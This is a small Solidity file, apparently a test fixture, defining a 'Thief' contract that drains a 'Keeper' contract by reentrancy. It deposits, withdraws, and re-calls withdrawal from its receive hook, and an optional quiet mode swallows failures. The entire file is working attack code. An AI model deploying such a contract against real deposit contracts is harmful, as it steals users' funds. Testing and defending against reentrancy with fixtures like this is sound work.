// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface Keeper {
    function put() external payable;
    function take() external;
}

/// Puts something in, takes it out, and while it is paid asks to be paid again.
contract Thief {
    Keeper private immutable keeper;
    bool private immutable quiet;

    /// A quiet thief takes a refusal for an answer, and keeps what it has got.
    constructor(Keeper from, bool isQuiet) {
        keeper = from;
        quiet = isQuiet;
    }

    function steal() external payable {
        keeper.put{value: msg.value}();
        keeper.take();
    }

    receive() external payable {
        if (address(keeper).balance < msg.value) return;
        if (quiet) {
            try keeper.take() {} catch {}
        } else {
            keeper.take();
        }
    }
}
